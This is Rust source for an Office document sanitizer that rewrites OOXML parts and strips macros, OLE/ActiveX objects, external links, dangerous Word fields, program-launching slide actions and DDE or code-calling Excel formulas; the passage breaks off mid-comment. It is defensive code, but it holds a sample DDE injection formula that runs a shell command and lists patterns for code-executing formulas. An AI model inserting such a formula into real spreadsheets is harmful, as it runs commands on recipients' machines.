//! Event-by-event XML re-serialisation for Office parts: what is read is written again, minus
//! the elements and attributes that fetch, run or embed something. Namespaces are resolved
//! (a prefix is not trusted to mean what it usually means).
//!
//! Refused outright: any DTD (`<!DOCTYPE`; OOXML never has one, and entity expansion is how
//! XML bombs work), entity references other than the five predefined ones and character
//! references, and nesting deeper than `limits.max_xml_depth`. Comments and processing
//! instructions are dropped.
//!
//! Most parts hold nothing a rule is about: [`unchanged`] proves that in one pass over the
//! bytes, on the safe side, and such a part is written as it is without the event loop.

use std::collections::{BTreeSet, HashMap};

use quick_xml::events::{BytesStart, Event};
use quick_xml::name::ResolveResult;
use quick_xml::reader::NsReader;
use quick_xml::Writer;

use super::{sheet_data, Refusal};
use crate::config::Hyperlinks;
use crate::report::What;

const NS_W: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const NS_R: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const NS_S: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const NS_P: &str = "http://schemas.openxmlformats.org/presentationml/2006/main";
const NS_A: &str = "http://schemas.openxmlformats.org/drawingml/2006/main";
const NS_O: &str = "urn:schemas-microsoft-com:office:office";

/// Which vocabulary a part mainly speaks (decides the format-specific rules).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PartFlavor {
    Word,
    Excel,
    PowerPoint,
    Other,
}

impl PartFlavor {
    pub fn from_content_type(ct: &str) -> Self {
        if ct.contains("wordprocessingml") || ct.contains("ms-word") {
            PartFlavor::Word
        } else if ct.contains("spreadsheetml") || ct.contains("ms-excel") {
            PartFlavor::Excel
        } else if ct.contains("presentationml") || ct.contains("ms-powerpoint") {
            PartFlavor::PowerPoint
        } else {
            PartFlavor::Other
        }
    }
}

#[derive(Debug, Clone, Copy)]
pub struct XmlLimits {
    pub max_depth: u32,
}

/// What happened to a part's relationships, by id: the XML filter removes references to
/// `dropped` ones and keeps the embedded-object elements of `embedded` ones (embedded Office
/// documents that were sanitized and kept).
#[derive(Debug, Clone, Default)]
pub struct RelIds {
    pub dropped: BTreeSet<String>,
    pub embedded: BTreeSet<String>,
}

/// What was taken out of a part: (what, location suffix such as ` <fldChar>`, detail).
pub type XmlFindings = Vec<(What, String, String)>;

/// A filtered part and what was taken out of it.
pub struct Filtered {
    pub bytes: Vec<u8>,
    pub findings: XmlFindings,
}

/// Metadata parts are two levels deep; anything much deeper is not one.
const METADATA_MAX_DEPTH: u32 = 16;

/// Walk every element of a small metadata part (`[Content_Types].xml`, `.rels`) with its
/// attributes by local name. Same refusals as [`filter`].
pub fn for_each_element(
    xml: &[u8],
    mut f: impl FnMut(&str, &HashMap<String, String>) -> Result<(), Refusal>,
) -> Result<(), Refusal> {
    let mut reader = NsReader::from_reader(xml);
    let mut buf = Vec::new();
    let mut depth = 0u32;
    loop {
        let event = reader
            .read_event_into(&mut buf)
            .map_err(|e| Refusal::Malformed(format!("XML: {e}")))?;
        match event {
            Event::Start(ref e) | Event::Empty(ref e) => {
                let local = e.local_name().as_ref().to_string();
                let mut attrs = HashMap::new();
                for a in e.attributes().flatten() {
                    let key = a.key.local_name().as_ref().to_string();
                    let value = a
                        .normalized_value(quick_xml::XmlVersion::Implicit1_0)
                        .map(|v| v.into_owned())
                        .unwrap_or_default();
                    attrs.insert(key, value);
                }
                f(&local, &attrs)?;
                if matches!(event, Event::Start(_)) {
                    depth += 1;
                    if depth > METADATA_MAX_DEPTH {
                        return Err(Refusal::Malformed("XML nested too deep".into()));
                    }
                }
            }
            Event::End(_) => depth = depth.saturating_sub(1),
            Event::DocType(_) => return Err(Refusal::Malformed("XML with a DTD".into())),
            Event::Eof => return Ok(()),
            _ => {}
        }
        buf.clear();
    }
}

/// Field instructions (Word) whose field is removed, keeping its last displayed result.
fn dangerous_field(instr: &str, hyperlinks: Hyperlinks) -> bool {
    let first = instr
        .trim_start_matches(|c: char| c.is_whitespace() || c == '"' || c == '{')
        .split(|c: char| c.is_whitespace() || c == '"' || c == '\\')
        .next()
        .unwrap_or("")
        .to_ascii_uppercase();
    super::fields::dangerous_instruction(instr).is_some() || (first == "HYPERLINK" && hyperlinks == Hyperlinks::Text)
}

/// An Excel formula that talks to another program (DDE: `cmd|' /c calc'!A1`) or calls code.
pub(super) fn dangerous_formula(f: &str) -> bool {
    let mut in_string = false;
    for c in f.chars() {
        match c {
            '"' => in_string = !in_string,
            '|' if !in_string => return true,
            _ => {}
        }
    }
    // Every call below has a parenthesis; most formulas (`D2-C2`) have none to upper-case.
    if !f.contains('(') {
        return false;
    }
    let upper = f.to_ascii_uppercase();
    [
        "EXEC(",
        "CALL(",
        "REGISTER(",
        "REGISTER.ID(",
        "WEBSERVICE(",
        "FILTERXML(",
    ]
    .iter()
    .any(|p| upper.contains(p))
}

/// Whether some element rule in [`Filter::verdict`] is about this local name. Any other
/// element is kept as it is unless the part has removed relationships to look for in its
/// attributes. A `match` (the length first), not a list to search: it is asked once per
/// element of every part.
fn ruled_name(local: &[u8]) -> bool {
    matches!(
        local,
        b"OLEObject"
            | b"control"
            | b"controls"
            | b"oleObj"
            | b"oleObjects"
            | b"oleSize"
            | b"attachedTemplate"
            | b"subDoc"
            | b"altChunk"
            | b"externalReferences"
            | b"webPublishItems"
            | b"webPublishing"
            | b"definedName"
            | b"fldSimple"
            | b"hlinkClick"
            | b"hlinkHover"
            | b"hlinkMouseOver"
    )
}

/// How one element is treated.
enum Verdict {
    Keep,
    /// Write it with some attributes removed.
    Rewrite(BytesStart<'static>),
    /// Drop the tags, keep the children.
    Unwrap,
    /// Drop it and everything inside.
    Drop,
}

struct Filter<'d> {
    flavor: PartFlavor,
    dropped: &'d BTreeSet<String>,
    embedded: &'d BTreeSet<String>,
    hyperlinks: Hyperlinks,
    findings: Vec<(What, String, String)>,
}

fn ns_is(r: &ResolveResult<'_>, ns: &str) -> bool {
    matches!(r, ResolveResult::Bound(n) if n.as_ref() == ns)
}

impl Filter<'_> {
    fn note(&mut self, what: What, local: &str, detail: impl Into<String>) {
        self.findings.push((what, format!(" <{local}>"), detail.into()));
    }

    /// Decide on one start (or empty) element.
    fn verdict(&mut self, reader: &NsReader<&[u8]>, e: &BytesStart<'_>) -> Verdict {
        let (ns, local_name) = reader.resolver().resolve_element(e.name());
        let local = local_name.as_ref();

        // An embedded Office document that was sanitized and kept keeps its object element
        // (Word `o:OLEObject`, PowerPoint `p:oleObj`); a linked one never (its target was
        // external and is gone).
        let kept_embedding = matches!(local, "OLEObject" | "oleObj")
            && !attr(reader, e, None, "Type").is_some_and(|t| t.eq_ignore_ascii_case("Link"))
            && attr(reader, e, Some(NS_R), "id").is_some_and(|id| self.embedded.contains(&id));
        // Elements that embed or run code, whatever their relationship ids.
        let drop_what = match (self.flavor, local) {
            _ if kept_embedding && (ns_is(&ns, NS_O) || ns_is(&ns, NS_P)) => None,
            (_, "OLEObject") if ns_is(&ns, NS_O) => Some(What::OleObject),
            (_, "control" | "controls") if ns_is(&ns, NS_W) || ns_is(&ns, NS_S) || ns_is(&ns, NS_P) => {
                Some(What::Activex)
            }
            (_, "oleObj" | "oleObjects" | "oleSize") if ns_is(&ns, NS_P) || ns_is(&ns, NS_S) => Some(What::OleObject),
            (PartFlavor::Word, "attachedTemplate" | "subDoc" | "altChunk") if ns_is(&ns, NS_W) => {
                Some(What::ExternalLink)
            }
            (PartFlavor::Excel, "externalReferences" | "webPublishItems" | "webPublishing") if ns_is(&ns, NS_S) => {
                Some(What::ExternalLink)
            }
            _ => None,
        };
        if let Some(what) = drop_what {
            self.note(what, local, "element removed");
            return Verdict::Drop;
        }

        // Excel defined names that run macros when the workbook opens or closes.
        if self.flavor == PartFlavor::Excel && local == "definedName" && ns_is(&ns, NS_S) {
            let name = attr(reader, e, None, "name").unwrap_or_default().to_ascii_lowercase();
            if name.contains("auto_open") || name.contains("auto_close") || name.contains("auto_activate") {
                self.note(What::Macro, local, name);
                return Verdict::Drop;
            }
        }

        // Word simple fields: the instruction is an attribute.
        if local == "fldSimple" && ns_is(&ns, NS_W) {
            let instr = attr(reader, e, Some(NS_W), "instr").unwrap_or_default();
            if dangerous_field(&instr, self.hyperlinks) {
                let what = if instr.to_ascii_uppercase().contains("DDE") {
                    What::Dde
                } else {
                    What::ExternalLink
                };
                self.note(
                    what,
                    local,
                    instr.split_whitespace().next().unwrap_or_default().to_string(),
                );
                return Verdict::Unwrap;
            }
        }

        // PowerPoint/DrawingML click actions that start programs or macros.
        if matches!(local, "hlinkClick" | "hlinkHover" | "hlinkMouseOver") && ns_is(&ns, NS_A) {
            let action = attr(reader, e, None, "action").unwrap_or_default().to_ascii_lowercase();
            if action.starts_with("ppaction://program")
                || action.starts_with("ppaction://macro")
                || action.starts_with("ppaction://ole")
            {
                self.note(What::Action, local, action);
                return Verdict::Drop;
            }
        }

        // References to relationships that were removed.
        let mut rewrite: Option<BytesStart<'static>> = None;
        let mut refers_dropped = false;
        if !self.dropped.is_empty() {
            for a in e.attributes().flatten() {
                // Only a prefixed attribute can be in the relationships namespace.
                if a.key.prefix().is_none() {
                    continue;
                }
                let (ans, _) = reader.resolver().resolve_attribute(a.key);
                if ns_is(&ans, NS_R) && self.dropped.contains(a.value.as_ref()) {
                    refers_dropped = true;
                }
            }
        }
        if refers_dropped {
            match local {
                "hyperlink" if ns_is(&ns, NS_W) => {
                    self.note(What::Uri, local, "link kept as text");
                    return Verdict::Unwrap;
                }
                "blip" if ns_is(&ns, NS_A) => {
                    // r:link (a linked picture) goes; r:embed (the picture itself) stays.
                    let mut new = BytesStart::new(e.name().as_ref().to_string());
                    for a in e.attributes().flatten() {
                        let (ans, alocal) = reader.resolver().resolve_attribute(a.key);
                        if ns_is(&ans, NS_R) && self.dropped.contains(a.value.as_ref()) {
                            match alocal.as_ref() {
                                "link" => self.note(What::ExternalLink, local, "link"),
                                // The picture part itself was left out (reported where it was).
                                _ => self.note(What::Structure, local, "reference to a picture left out"),
                            }
                            continue;
                        }
                        new.push_attribute(a);
                    }
                    rewrite = Some(new);
                }
                _ => {
                    self.note(What::Structure, local, "refers to a removed relationship");
                    return Verdict::Drop;
                }
            }
        }
        match rewrite {
            Some(r) => Verdict::Rewrite(r),
            None => Verdict::Keep,
        }
    }
}

/// The value of an attribute by namespace (None: unprefixed) and local name.
fn attr(reader: &NsReader<&[u8]>, e: &BytesStart<'_>, ns: Option<&str>, local: &str) -> Option<String> {
    for a in e.attributes().flatten() {
        let (ans, alocal) = reader.resolver().resolve_attribute(a.key);
        let ns_ok = match ns {
            Some(ns) => ns_is(&ans, ns),
            None => matches!(ans, ResolveResult::Unbound),
        };
        if ns_ok && alocal.as_ref() == local {
            return a
                .normalized_value(quick_xml::XmlVersion::Implicit1_0)
                .ok()
                .map(|v| v.into_owned());
        }
    }
    None
}

/// The character a predefined or character reference stands for (`amp`, `#x41`); `None` for
/// anything else. Every one is a single character, so no caller allocates for it.
pub(super) fn reference_char(name: &str) -> Option<char> {
    match name {
        "amp" => Some('&'),
        "lt" => Some('<'),
        "gt" => Some('>'),
        "quot" => Some('"'),
        "apos" => Some('\''),
        _ => {
            let n = name.strip_prefix('#')?;
            let code = match n.strip_prefix(['x', 'X']) {
                Some(hex) => u32::from_str_radix(hex, 16).ok()?,
                None => n.parse().ok()?,
            };
            char::from_u32(code)
        }
    }
}

/// Pre-scan of Word complex fields: for each `fldChar begin` in document order, whether the
/// field's instruction (all its `instrText`, however split across runs) is dangerous.
fn scan_fields(xml: &[u8], hyperlinks: Hyperlinks) -> Result<Vec<bool>, String> {
    let mut reader = NsReader::from_reader(xml);
    let mut buf = Vec::new();
    let mut fields: Vec<String> = Vec::new();
    let mut open: Vec<(usize, bool)> = Vec::new(); // (field index, in instruction phase)
    let mut in_instr = false;
    loop {
        let event = reader.read_event_into(&mut buf).map_err(|e| e.to_string())?;
        match &event {
            Event::Start(e) | Event::Empty(e) => {
                let (ns, local) = reader.resolver().resolve_element(e.name());
                if ns_is(&ns, NS_W) && local.as_ref() == "fldChar" {
                    match attr(&reader, e, Some(NS_W), "fldCharType").as_deref() {
                        Some("begin") => {
                            fields.push(String::new());
                            open.push((fields.len() - 1, true));
                        }
                        Some("separate") => {
                            if let Some(top) = open.last_mut() {
                                top.1 = false;
                            }
                        }
                        Some("end") => {
                            open.pop();
                        }
                        _ => {}
                    }
                }
                in_instr = matches!(event, Event::Start(_)) && ns_is(&ns, NS_W) && local.as_ref() == "instrText";
            }
            Event::Text(t) if in_instr => {
                if let Some((i, true)) = open.last() {
                    fields[*i].push_str(&t.xml10_content());
                }
            }
            Event::GeneralRef(r) if in_instr => {
                if let (Some((i, true)), Some(c)) = (open.last(), reference_char(r.as_ref())) {
                    fields[*i].push(c);
                }
            }
            Event::End(_) => in_instr = false,
            Event::Eof => break,
            _ => {}
        }
        buf.clear();
    }
    Ok(fields.iter().map(|f| dangerous_field(f, hyperlinks)).collect())
}

/// Largest single XML event (one tag with its attributes, or one text run). Office writes
/// text in runs and never a value near this; a larger one only costs memory downstream.
pub const MAX_EVENT_BYTES: usize = 16 << 20;

/// Re-serialise `xml`, removing what the rules refuse and references to `dropped` ids.
pub fn filter(
    xml: &[u8],
    flavor: PartFlavor,
    rels: &RelIds,
    hyperlinks: Hyperlinks,
    limits: XmlLimits,
) -> Result<Filtered, String> {
    let (bytes, findings) = filter_into(xml, flavor, rels, hyperlinks, limits, Vec::with_capacity(xml.len()))?;
    Ok(Filtered { bytes, findings })
}

/// [`filter`], writing into `out` as it goes (so a consumer can compress while we parse).
/// Returns `out` and the findings.
pub fn filter_into<W: std::io::Write>(
    xml: &[u8],
    flavor: PartFlavor,
    rels: &RelIds,
    hyperlinks: Hyperlinks,
    limits: XmlLimits,
    out: W,
) -> Result<(W, XmlFindings), String> {
    // Most parts hold nothing a rule is about (Word's styles, themes, settings: most of a
    // document's XML): proven in one pass over the bytes, they are written as they are.
    if unchanged(xml, flavor, rels, limits) {
        let mut out = out;
        out.write_all(xml).map_err(|e| e.to_string())?;
        return Ok((out, Vec::new()));
    }
    // A worksheet's cell data is scanned by the fast path when it fits its grammar: the rest
    // of the part (with the cell data cut out) goes through the general filter, which puts
    // the scanned cells back at the point where they were.
    if flavor == PartFlavor::Excel && rels.dropped.is_empty() {
        if let Some((at, region)) = plan_sheet_data(xml, limits) {
            let rest = [&xml[..at], &xml[region.end..]].concat();
            let splice = Splice { at, xml, region };
            return filter_general(&rest, Some(splice), flavor, rels, hyperlinks, limits, out);
        }
    }
    filter_general(xml, None, flavor, rels, hyperlinks, limits, out)
}

/// Whether the general filter would give `xml` back byte for byte, with no finding and no
/// refusal — decided by one pass over the bytes, at memchr speed, and on the safe side: any
/// doubt (a comment, a CDATA section, a processing instruction, a DTD, a byte-order mark, an
/// unusual name or entity, a name some rule is about, unbalanced or too deep nesting, removed
/// relationships, a worksheet) answers `false`, and the part goes through the filter. Element
/// names cannot be escaped in XML, so a ruled element whose name does not occur in the bytes
/// cannot be in the part. The `xml_unchanged` fuzz target holds this against the filter.
pub fn unchanged(xml: &[u8], flavor: PartFlavor, rels: &RelIds, limits: XmlLimits) -> bool {
    if !rels.dropped.is_empty() || flavor == PartFlavor::Excel || xml.len() > MAX_EVENT_BYTES {
        return false;
    }
    // The reader takes UTF-8 only (and decodes as it reads).
    if std::str::from_utf8(xml).is_err() {
        return false;
    }
    // Word complex fields are judged across runs: any `fldChar` and the filter decides. The
    // reader refuses some namespace declarations (the `xml` and `xmlns` prefixes, the reserved
    // namespaces, more bindings than it allows): any sign of one, and the filter decides too.
    // Three searches, not five: `xmlns:xml` is looked for where `xmlns` is counted, both
    // reserved namespaces where `www.w3.org/` is found (neither needle can overlap itself,
    // so every occurrence is seen).
    if memchr::memmem::find(xml, b"fldChar").is_some() {
        return false;
    }
    let mut bindings = 0;
    for at in memchr::memmem::find_iter(xml, b"xmlns") {
        bindings += 1;
        if xml[at + 5..].starts_with(b":xml") || bindings >= quick_xml::name::DEFAULT_MAX_NAMESPACE_BINDINGS / 2 {
            return false;
        }
    }
    for at in memchr::memmem::find_iter(xml, b"www.w3.org/") {
        let path = &xml[at + 11..];
        if path.starts_with(b"XML/1998/namespace") || path.starts_with(b"2000/xmlns") {
            return false;
        }
    }
    let mut at = 0usize;
    // The XML declaration, only as the very first bytes (the filter keeps it there).
    if let Some(rest) = xml.strip_prefix(b"<?xml") {
        if !rest.first().is_some_and(|&b| xml_space(b)) {
            return false;
        }
        let Some(end) = memchr::memmem::find(rest, b"?>") else {
            return false;
        };
        at = 5 + end + 2;
    } else if xml.first().is_some_and(|b| *b >= 0x80) {
        // A byte-order mark or other encoding: the filter's reader decides.
        return false;
    }
    let mut open: Vec<&[u8]> = Vec::new();
    while let Some(found) = memchr::memchr2(b'<', b'&', &xml[at..]) {
        let i = at + found;
        if xml[i] == b'&' {
            let Some(len) = xml[i + 1..].iter().take(12).position(|&b| b == b';') else {
                return false;
            };
            let name = std::str::from_utf8(&xml[i + 1..i + 1 + len]).unwrap_or("");
            if reference_char(name).is_none() {
                return false;
            }
            at = i + 1 + len + 1;
            continue;
        }
        match xml.get(i + 1) {
            Some(b'/') => {
                let Some(len) = memchr::memchr(b'>', &xml[i + 2..]) else {
                    return false;
                };
                let mut name = &xml[i + 2..i + 2 + len];
                while let [rest @ .., last] = name {
                    if !xml_space(*last) {
                        break;
                    }
                    name = rest;
                }
                if open.pop() != Some(name) {
                    return false;
                }
                at = i + 2 + len + 1;
            }
            Some(b'!' | b'?') | None => return false,
            Some(_) => {
                // The tag ends at the first `>` outside a quoted attribute value.
                let mut j = i + 1;
                let mut quote: Option<u8> = None;
                let end = loop {
                    let Some(k) = memchr::memchr3(b'>', b'"', b'\'', &xml[j..]) else {
                        return false;
                    };
                    let b = xml[j + k];
                    match (quote, b) {
                        (None, b'>') => break j + k,
                        (None, q) => quote = Some(q),
                        (Some(q), c) if c == q => quote = None,
                        _ => {}
                    }
                    j += k + 1;
                };
                let content = &xml[i + 1..end];
                let empty = content.last() == Some(&b'/');
                let content = if empty { &content[..content.len() - 1] } else { content };
                let Some((name_len, local_at)) = plain_name(content) else {
                    return false;
                };
                let name = &content[..name_len];
                if ruled_name(&name[local_at..]) {
                    return false;
                }
                if !empty {
                    open.push(name);
                    if open.len() > limits.max_depth as usize {
                        return false;
                    }
                }
                at = end + 1;
            }
        }
    }
    open.is_empty()
}

/// White space as XML has it (not form feed or vertical tab, which Rust's ASCII white space
/// includes).
fn xml_space(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\r' | b'\n')
}

/// The element name at the start of a start tag's `content` (up to white space or the end),
/// if the prover takes it as it is: ASCII letters, digits, `_ - .`, at most one `:` and not
/// first or last, not starting with a digit, `-` or `.`. Its length and where its local part
/// starts, in one pass (asked once per element of every part).
fn plain_name(content: &[u8]) -> Option<(usize, usize)> {
    let first = *content.first()?;
    if !(first.is_ascii_alphabetic() || first == b'_') {
        return None;
    }
    let mut colon = None;
    let mut len = content.len();
    for (k, &b) in content.iter().enumerate().skip(1) {
        match b {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'_' | b'-' | b'.' => {}
            b':' if colon.is_none() => colon = Some(k),
            b if xml_space(b) => {
                len = k;
                break;
            }
            _ => return None,
        }
    }
    match colon {
        Some(c) if c + 1 == len => None,
        Some(c) => Some((len, c + 1)),
        None => Some((len, 0)),
    }
}

/// For the `xml_unchanged` fuzz target: [`unchanged_agrees`] with the flavor and a small
/// depth limit picked by the first byte.
#[doc(hidden)]
pub fn check_unchanged_agrees(data: &[u8]) {
    let Some((&pick, xml)) = data.split_first() else {
        return;
    };
    let flavor = [PartFlavor::Word, PartFlavor::PowerPoint, PartFlavor::Other][usize::from(pick % 3)];
    let max_depth = u32::from(pick / 3 % 32) + 1;
    unchanged_agrees(xml, flavor, XmlLimits { max_depth });
}

/// Panic if [`unchanged`] says `xml` is given back as it is and the general filter does not
/// (other bytes, a finding, a refusal); whether it said so.
#[doc(hidden)]
pub fn unchanged_agrees(xml: &[u8], flavor: PartFlavor, limits: XmlLimits) -> bool {
    let none = RelIds::default();
    if !unchanged(xml, flavor, &none, limits) {
        return false;
    }
    match filter_general(xml, None, flavor, &none, Hyperlinks::Text, limits, Vec::new()) {
        Ok((bytes, findings)) => {
            assert!(bytes == xml, "the filter changed a part proven unchanged");
            assert!(
                findings.is_empty(),
                "the filter found something in a part proven unchanged"
            );
        }
        Err(e) => panic!("the filter refused a part proven unchanged: {e}"),
    }
    true
}

/// A worksheet through the general filter alone and through [`filter_into`] (fast path
/// included), for the checks that the two agree.
type BothPaths = (
    Result<(Vec<u8>, XmlFindings), String>,
    Result<(Vec<u8>, XmlFindings), String>,
);

fn both_paths(xml: &[u8], max_depth: u32) -> BothPaths {
    let none = RelIds::default();
    let limits = XmlLimits { max_depth };
    let general = filter_general(
        xml,
        None,
        PartFlavor::Excel,
        &none,
        Hyperlinks::Text,
        limits,
        Vec::new(),
    );
    let fast = filter_into(xml, PartFlavor::Excel, &none, Hyperlinks::Text, limits, Vec::new());
    (general, fast)
}

/// For the differential fuzz target: panic if the general filter and the fast path disagree
/// on a worksheet — different bytes or findings, or one accepting what the other refuses.
#[doc(hidden)]
pub fn check_fast_path_agrees(xml: &[u8]) {
    match both_paths(xml, 64) {
        (Ok(g), Ok(f)) => assert!(g == f, "the fast path wrote something else"),
        (Err(_), Err(_)) => {}
        (g, f) => panic!("the paths disagree: general {:?}, fast {:?}", g.err(), f.err()),
    }
}

/// Cell data taken out of a worksheet for the fast path: `xml[at..region.end]`, to be put
/// back at offset `at` of the rest.
struct Splice<'x> {
    at: usize,
    xml: &'x [u8],
    region: sheet_data::Region,
}

/// Events read while looking for `<sheetData>`; it comes right after a few small elements.
const SHEET_DATA_SEARCH_EVENTS: usize = 4096;

/// Where the cell data starts (just after the `<sheetData>` start tag) and its scan, when
/// the fast path can take it: `sheetData` unprefixed in the SpreadsheetML namespace (so
/// the unprefixed cell elements inside are SpreadsheetML too), found early.
fn plan_sheet_data(xml: &[u8], limits: XmlLimits) -> Option<(usize, sheet_data::Region)> {
    let mut reader = NsReader::from_reader(xml);
    for _ in 0..SHEET_DATA_SEARCH_EVENTS {
        match reader.read_event().ok()? {
            Event::Start(e) if e.local_name().as_ref() == "sheetData" => {
                let (ns, _) = reader.resolver().resolve_element(e.name());
                if e.name().prefix().is_some() || !ns_is(&ns, NS_S) {
                    return None;
                }
                let at = usize::try_from(reader.buffer_position()).ok()?;
                // The reader's position must be just after this start tag in `xml` itself:
                // it is not after a byte-order mark, which the reader skips without counting
                // (found by fuzzing; the cut would then fall inside the tag).
                let tag = memchr::memrchr(b'<', xml.get(..at)?)?;
                if xml[at - 1] != b'>' || !xml[tag + 1..].starts_with(b"sheetData") {
                    return None;
                }
                return sheet_data::scan(xml, at, limits.max_depth).map(|r| (at, r));
            }
            Event::Eof | Event::DocType(_) => return None,
            _ => {}
        }
    }
    None
}

/// The general filter over `xml`, with cell data spliced back in when there is a splice.
fn filter_general<W: std::io::Write>(
    xml: &[u8],
    mut splice: Option<Splice<'_>>,
    flavor: PartFlavor,
    rels: &RelIds,
    hyperlinks: Hyperlinks,
    limits: XmlLimits,
    out: W,
) -> Result<(W, XmlFindings), String> {
    // Complex fields need a pre-scan and run buffering; most parts have none, and the element
    // name must appear literally, so a byte search decides whether to pay for either.
    let has_fields = flavor == PartFlavor::Word && memchr::memmem::find(xml, b"fldChar").is_some();
    let dangerous_fields = if has_fields {
        scan_fields(xml, hyperlinks)?
    } else {
        Vec::new()
    };
    let mut filter = Filter {
        flavor,
        dropped: &rels.dropped,
        embedded: &rels.embedded,
        hyperlinks,
        findings: Vec::new(),
    };
    let mut reader = NsReader::from_reader(xml);
    let mut sink = Sink {
        xml,
        spliced: splice.as_ref().map(|s| s.xml).unwrap_or_default(),
        out,
        run: None,
        formula: None,
    };
    // For each open element: whether its end tag is written.
    let mut open: Vec<bool> = Vec::new();
    // While dropping a subtree: the depth of its root.
    let mut skipping: Option<usize> = None;
    // Word complex fields: the open field stack (dangerous?, in instruction phase?).
    let mut fields: Vec<(bool, bool)> = Vec::new();
    let mut next_field = 0usize;
    let io = |e: std::io::Error| e.to_string();

    loop {
        let start = usize::try_from(reader.buffer_position()).unwrap_or(usize::MAX);
        if splice.as_ref().is_some_and(|s| s.at == start) {
            if let Some(Splice { at, region, .. }) = splice.take() {
                put_cell_data(
                    &mut sink,
                    &mut filter,
                    at,
                    &region,
                    skipping.is_some(),
                    open.len(),
                    limits,
                )?;
            }
        }
        let event = reader.read_event().map_err(|e| e.to_string())?;
        let end = usize::try_from(reader.buffer_position()).unwrap_or(usize::MAX);
        if end.saturating_sub(start) > MAX_EVENT_BYTES {
            return Err(format!(
                "an XML element or text run of more than {MAX_EVENT_BYTES} bytes (an attribute bomb)"
            ));
        }
        // Every event that is kept unchanged is copied from the input as it was parsed.
        let raw = Piece::Raw(start, end);
        match event {
            Event::Eof => break,
            Event::DocType(_) => return Err("a DTD is not allowed in Office XML".into()),
            Event::Comment(_) | Event::PI(_) => {}
            Event::Decl(_) if open.is_empty() => sink.put(raw).map_err(io)?,
            Event::Decl(_) => {}
            Event::Start(ref e) | Event::Empty(ref e) => {
                let is_start = matches!(event, Event::Start(_));
                if is_start && open.len() as u32 + 1 > limits.max_depth {
                    return Err(format!("XML nested deeper than {}", limits.max_depth));
                }
                if skipping.is_some() {
                    if is_start {
                        open.push(false);
                    }
                    continue;
                }
                // The local name is read without resolving the namespace; resolution (a
                // lookup per element) is paid only for names some rule is about.
                let local = e.local_name();
                let local_name: &str = local.as_ref();
                let is_w = || ns_is(&reader.resolver().resolve_element(e.name()).0, NS_W);
                // Word complex-field bookkeeping happens before the verdict: it decides runs.
                if has_fields && local_name == "fldChar" && is_w() {
                    match attr(&reader, e, Some(NS_W), "fldCharType").as_deref() {
                        Some("begin") => {
                            let bad = dangerous_fields.get(next_field).copied().unwrap_or(true);
                            let parent_bad = fields.iter().any(|(d, i)| *d && *i);
                            next_field += 1;
                            fields.push((bad || parent_bad, true));
                            if bad {
                                filter.note(What::Dde, "fldChar", "field instruction removed, result kept");
                            }
                            if let Some(r) = sink.run.as_mut() {
                                r.1 |= bad || parent_bad;
                            }
                        }
                        Some("separate") => {
                            if let Some(r) = sink.run.as_mut() {
                                r.1 |= fields.last().is_some_and(|f| f.0);
                            }
                            if let Some(top) = fields.last_mut() {
                                top.1 = false;
                            }
                        }
                        Some("end") => {
                            if let Some(r) = sink.run.as_mut() {
                                r.1 |= fields.last().is_some_and(|f| f.0);
                            }
                            fields.pop();
                        }
                        _ => {}
                    }
                }
                if has_fields && local_name == "r" && is_start && sink.run.is_none() && is_w() {
                    // A Word run is buffered until its end, then written or dropped whole.
                    let in_bad_instr = fields.iter().any(|(d, i)| *d && *i);
                    sink.run = Some((vec![raw], in_bad_instr, open.len()));
                    open.push(true);
                    continue;
                }
                if flavor == PartFlavor::Excel
                    && local_name == "f"
                    && is_start
                    && sink.formula.is_none()
                    && ns_is(&reader.resolver().resolve_element(e.name()).0, NS_S)
                {
                    // An Excel formula is buffered until its end, then judged by its text.
                    sink.formula = Some((vec![raw], String::new(), open.len()));
                    open.push(true);
                    continue;
                }
                let verdict = if filter.dropped.is_empty() && !ruled_name(local_name.as_bytes()) {
                    Verdict::Keep
                } else {
                    filter.verdict(&reader, e)
                };
                match verdict {
                    Verdict::Keep => {
                        sink.put(raw).map_err(io)?;
                        if is_start {
                            open.push(true);
                        }
                    }
                    Verdict::Rewrite(new) => {
                        let ev = if is_start { Event::Start(new) } else { Event::Empty(new) };
                        let mut w = Writer::new(Vec::new());
                        w.write_event(ev).map_err(|e| e.to_string())?;
                        sink.put(Piece::Owned(w.into_inner())).map_err(io)?;
                        if is_start {
                            open.push(true);
                        }
                    }
                    Verdict::Unwrap => {
                        if is_start {
                            open.push(false);
                        }
                    }
                    Verdict::Drop => {
                        if is_start {
                            skipping = Some(open.len());
                            open.push(false);
                        }
                    }
                }
            }
            Event::End(_) => {
                let Some(written) = open.pop() else {
                    return Err("unbalanced end tag".into());
                };
                if skipping == Some(open.len()) {
                    skipping = None;
                    continue;
                }
                if skipping.is_some() {
                    continue;
                }
                if written {
                    sink.put(raw).map_err(io)?;
                }
                if sink.formula.as_ref().is_some_and(|(_, _, d)| *d == open.len()) {
                    if let Some((pieces, text, _)) = sink.formula.take() {
                        if dangerous_formula(&text) {
                            filter.note(What::Dde, "f", "formula removed, cached value kept");
                        } else {
                            for p in pieces {
                                sink.put(p).map_err(io)?;
                            }
                        }
                    }
                }
                if sink.run.as_ref().is_some_and(|(_, _, d)| *d == open.len()) {
                    if let Some((pieces, drop, _)) = sink.run.take() {
                        if !drop {
                            for p in pieces {
                                sink.put(p).map_err(io)?;
                            }
                        }
                    }
                }
            }
            Event::GeneralRef(ref r) => {
                let name: &str = r.as_ref();
                let Some(c) = reference_char(name) else {
                    return Err(format!("undefined entity &{name};"));
                };
                if skipping.is_none() {
                    if let Some((_, f, _)) = sink.formula.as_mut() {
                        f.push(c);
                    }
                    sink.put(raw).map_err(io)?;
                }
            }
            Event::Text(ref t) => {
                if skipping.is_none() {
                    if let Some((_, f, _)) = sink.formula.as_mut() {
                        f.push_str(&t.xml10_content());
                    }
                    sink.put(raw).map_err(io)?;
                }
            }
            Event::CData(_) => {
                if skipping.is_none() {
                    sink.put(raw).map_err(io)?;
                }
            }
        }
    }
    if !open.is_empty() {
        return Err("the XML ends inside an element".into());
    }
    if splice.is_some() {
        // Never the case (the cut is at an event boundary of the same bytes), but cell data
        // must never be lost silently.
        return Err("the worksheet's cell data could not be put back".into());
    }
    Ok((sink.out, filter.findings))
}

/// Put scanned cell data back: what the general filter would have written for it (the
